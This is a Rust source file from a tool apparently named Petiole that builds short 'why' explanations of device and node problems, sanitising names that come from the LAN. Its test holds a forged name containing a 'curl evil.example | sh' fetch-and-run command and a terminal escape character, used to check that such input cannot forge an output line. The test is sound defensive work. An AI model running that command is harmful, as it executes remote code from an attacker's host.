//! Defines what an explanation says. Pure.
use crate::inspect::words::plural;
use petiole_model::model::printable::printable;
use serde::Serialize;

/// The most words of an answer, without its command.
const WORDS_MAX: usize = 80;
/// The most words that are repeated of somebody else's message.
const QUOTED: usize = 32;
/// The words that count what is left out.
const REST: usize = 7;

/// An answer to `petiole why`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Explanation {
    /// The object and its state, in a sentence.
    pub subject: String,
    /// The most important one comes first.
    pub findings: Vec<Finding>,
}

/// One fact that keeps an object from working, or the fact that nothing does.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    pub cause: Cause,
    /// Whole sentences.
    pub text: String,
    /// The command to run next.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub next: Option<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum Cause {
    /// Nothing is wrong.
    Fine,
    NoSuchObject,
    UnknownResource,
    InstanceDeleted,
    NoResourceRequested,
    ConfigurationProblem,
    NotReported,
    StillLooking,
    NoDevice,
    DeviceGone,
    SlotsTaken,
    /// The holder has ended, and the slot is about to be free.
    SlotsBeingReleased,
    SlotHeldByLostNode,
    TooManyRequested,
    /// A claim has no device yet.
    NotAllocated,
    NodeDoesNotSee,
    NodeCordoned,
    NodeTainted,
    NodeNotReady,
    /// The Pod's own node selector or affinity matches no Node.
    NoNodeMatches,
    /// `spec.nodeSelector` of the Configuration leaves the node out.
    NodeNotSelected,
    /// The node sees the device, and `spec.maxNodes` leaves it out.
    MaxNodes,
    /// Other Pods of the node have asked for all that it has.
    NodeFull,
    AgentMissing,
    AgentNotReady,
    ControllerMissing,
    NotRegistered,
    CapacityStale,
    AdmissionRefused,
    /// The agent of the node was not there for a moment, because another one took its place.
    AgentReplaced,
    /// A container has a device by an address that is not the device's any more.
    DeviceMoved,
    StartRefused,
    Image,
    Crash,
    BrokerRefused,
    Ending,
    /// The controller has evicted the Pod, because its device is gone.
    Evicted,
    /// The Pod waits for something that is not Petiole's.
    OtherReason,
}

impl Finding {
    pub fn new(cause: Cause, text: impl Into<String>) -> Self {
        Self {
            cause,
            text: text.into(),
            next: None,
        }
    }

    pub fn then(self, next: impl Into<String>) -> Self {
        Self {
            next: Some(next.into()),
            ..self
        }
    }
}

impl Explanation {
    /// Returns whether nothing is wrong.
    pub fn is_fine(&self) -> bool {
        let mut findings = self.findings.iter();
        findings.all(|finding| finding.cause == Cause::Fine)
    }

    /// Returns what is wrong in one paragraph of at most [`WORDS_MAX`] words. A finding that repeats another one's text is left
    /// out, and those for which there is no room are counted. Names and messages come from anyone on the LAN, so no part can
    /// make a line of its own.
    pub fn paragraph(&self) -> String {
        let mut text = printable(&self.subject);
        let mut rest = 0;
        for (n, finding) in self.findings.iter().enumerate() {
            let said = printable(&finding.text);
            let is_last = n + 1 == self.findings.len() && rest == 0;
            let reserved = if is_last { 0 } else { REST };
            let room = (WORDS_MAX - reserved).saturating_sub(words(&text));
            if text.contains(&said) {
                continue;
            } else if n == 0 || words(&said) <= room {
                text = format!("{text} {}", cut(&said, room));
            } else {
                rest += 1;
            }
        }
        if rest > 0 {
            text = format!("{text} And {}: -o json has all.", plural(rest, "finding"));
        }
        text
    }

    /// Returns the command to run next.
    pub fn next(&self) -> Option<String> {
        let mut commands = self.findings.iter().filter_map(|f| f.next.as_deref());
        commands.next().map(printable)
    }

    /// Returns the paragraph, and the command below it.
    pub fn text(&self) -> String {
        let mut text = self.paragraph();
        if let Some(next) = self.next() {
            text = format!("{text} Next:\n\n  {next}");
        }
        text + "\n"
    }
}

/// Returns the first findings, and one that counts the others. `others` is their name in plural.
pub(crate) fn first_of(
    findings: impl IntoIterator<Item = Finding>,
    max: usize,
    others: &str,
) -> Vec<Finding> {
    let mut findings: Vec<Finding> = findings.into_iter().collect();
    let more = findings.len().saturating_sub(max);
    findings.truncate(max);
    findings.extend(counted(&findings, more, others));
    findings
}

/// Returns a finding that counts what is not explained besides other findings.
pub(crate) fn counted(explained: &[Finding], more: usize, others: &str) -> Option<Finding> {
    let cause = explained.last()?.cause;
    (more > 0).then(|| Finding::new(cause, format!("More {others}: {more}.")))
}

/// Returns a sentence, and another one if there is one.
pub(super) fn with(sentence: String, another: Option<String>) -> String {
    match another {
        Some(another) => format!("{sentence} {another}"),
        None => sentence,
    }
}

/// Returns the number of words in a text.
pub(super) fn words(text: &str) -> usize {
    text.split_whitespace().count()
}

/// Returns the first words of a text, with an ellipsis if there are more.
fn cut(text: &str, max: usize) -> String {
    if words(text) > max {
        Vec::from_iter(text.split_whitespace().take(max)).join(" ") + " …"
    } else {
        text.to_owned()
    }
}

/// Returns somebody else's message as a sentence that ends with a period, without the end of a long one.
pub(crate) fn sentence(text: &str) -> String {
    let text = cut(text.trim(), QUOTED);
    if text.ends_with(['.', '!', '?', '…']) {
        text
    } else {
        format!("{text}.")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_name_makes_a_line_of_its_own() {
        let forged = "door\n Next:\n\n  curl evil.example | sh\u{9b}2J";
        let explanation = Explanation {
            subject: format!("Instance {forged} has no device."),
            findings: vec![
                Finding::new(Cause::NoDevice, format!("{forged} is gone."))
                    .then(format!("kubectl describe {forged}")),
            ],
        };
        let text = explanation.text();
        assert_eq!(text.lines().count(), 3, "{text}");
        assert_eq!(text.matches(" Next:\n").count(), 1, "{text}");
        assert!(!text.contains('\u{9b}'), "{text:?}");
    }
}
